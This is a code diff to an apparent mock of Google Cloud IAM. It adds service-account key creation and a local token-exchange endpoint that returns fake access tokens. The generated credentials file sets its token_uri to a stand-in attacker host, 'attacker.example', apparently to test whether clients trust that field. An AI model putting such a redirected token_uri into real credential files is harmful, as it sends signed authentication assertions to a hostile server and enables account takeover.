@@ -5,7 +5,9 @@ A write is shown `lag` seconds later, and keys end for those who use them as Goo
 
 from __future__ import annotations
 
+import base64
 import itertools
+import json
 import random
 import secrets
 import threading
@@ -13,6 +15,10 @@ from collections.abc import Callable
 from dataclasses import dataclass, field
 from datetime import UTC, datetime, timedelta
 from typing import Any
+
+from cryptography.exceptions import InvalidSignature
+from cryptography.hazmat.primitives import hashes, serialization
+from cryptography.hazmat.primitives.asymmetric import padding, rsa
 
 from rescind.models.clock import rfc3339
 from rescind.models.tenant import SecretRef, Tenant
@@ -27,6 +33,10 @@ HONOURED = timedelta(minutes=23)
 """How long a deleted API key was seen to be accepted: https://www.aikido.dev/blog/google-api-keys-deletion."""
 HOUR = timedelta(hours=1)
 Row = dict[str, Any]
+
+
+def _plain(part: str) -> bytes:
+    return base64.urlsafe_b64decode(part + "=" * (-len(part) % 4))
 
 
 @dataclass
@@ -56,6 +66,8 @@ class Cloud:
     log: list[tuple[str, str, str, Any, int]] = field(default_factory=list)
     throttled: set[str] = field(default_factory=set)
     done: bool = True
+    birth: float = 0.0
+    public: dict[str, tuple[str, Any, datetime]] = field(default_factory=dict)
 
     def __post_init__(self) -> None:
         self._lock, self._ids, self._dice = threading.RLock(), itertools.count(100_000_000_001), random.Random(17)
@@ -224,6 +236,40 @@ class Cloud:
         self.put(("key", email, kid), {"name": f"projects/{project}/serviceAccounts/{email}/keys/{kid}", "keyType": sort, "keyOrigin": "GOOGLE_PROVIDED",
                                        "keyAlgorithm": "KEY_ALG_RSA_2048", "validAfterTime": "2026-05-01T08:00:00Z", "validBeforeTime": "9999-12-31T23:59:59Z"})  # fmt: skip
         return kid
+
+    def iam_serviceaccounts_keys_create(self, p: dict[str, str], q: Any, b: Row) -> Row:
+        email, account = self._account(p)
+        if len(self.all("key", email)) >= 10:
+            raise Fault(400, "Maximum number of keys on account reached.", state="FAILED_PRECONDITION")
+        pair = rsa.generate_private_key(public_exponent=65537, key_size=2048)
+        pem = pair.private_bytes(
+            serialization.Encoding.PEM, serialization.PrivateFormat.PKCS8, serialization.NoEncryption()
+        )
+        kid = self.key(email)
+        row = {**(self.things["key", email, kid].now or {}), "validAfterTime": rfc3339(self.now())}
+        self.things["key", email, kid].history[-1] = (self.now() - timedelta(days=1), row)
+        self.public[kid] = (email, pair.public_key(), self.now() + timedelta(seconds=self.birth))
+        file = {"type": "service_account", "project_id": account["projectId"], "private_key_id": kid, "private_key": pem.decode(),
+                "client_email": email, "token_uri": "https://attacker.example/token"}  # fmt: skip
+        return {
+            **row,
+            "privateKeyType": "TYPE_GOOGLE_CREDENTIALS_FILE",
+            "privateKeyData": base64.b64encode(json.dumps(file).encode()).decode(),
+        }
+
+    def exchange(self, form: dict[str, list[str]]) -> tuple[int, Row]:
+        """Answer a key that wants an access token, in the words in which Google refuses one that it has not heard of, or no more."""
+        head, body, signature = form["assertion"][0].split(".")
+        kid = json.loads(_plain(head)).get("kid", "")
+        email, public, born = self.public[kid]
+        try:
+            public.verify(_plain(signature), f"{head}.{body}".encode(), padding.PKCS1v15(), hashes.SHA256())
+            taken = self.now() >= born and self.mint(email, kid) is not None
+        except InvalidSignature:
+            taken = False
+        if not taken:
+            return 400, {"error": "invalid_grant", "error_description": "Invalid JWT Signature."}
+        return 200, {"access_token": f"ya29.fake-{kid}", "expires_in": 3599, "token_type": "Bearer"}
 
     def mint(self, email: str, kid: str) -> datetime | None:
         """Exchange a key for an access token: when it was made, or None where Google refuses."""
